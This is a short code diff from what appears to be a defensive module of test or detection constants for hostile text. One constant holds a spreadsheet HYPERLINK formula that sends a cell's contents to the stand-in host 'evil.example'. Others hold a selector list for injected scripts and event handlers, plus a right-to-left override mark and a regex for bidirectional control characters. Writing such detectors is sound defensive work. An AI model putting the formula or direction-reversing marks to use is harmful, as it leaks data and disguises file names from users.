@@ -7,3 +7,7 @@ export const FORMULA = `=HYPERLINK("https://evil.example?"&A1,"x")${HOSTILE_SHOR
 
 /** An element that only such a text could have made. */
 export const FOREIGN_ELEMENT = '[onerror],[onload],[onclick],img[src="x"],script:not([nonce]):not([src^="/_next/"])'
+
+/** Marks that turn the direction of writing: a name that ends in one reads backwards what stands behind it. */
+export const TURN = '\u202E'
+export const TURNING = /[\u202A-\u202E\u2066-\u2069]/
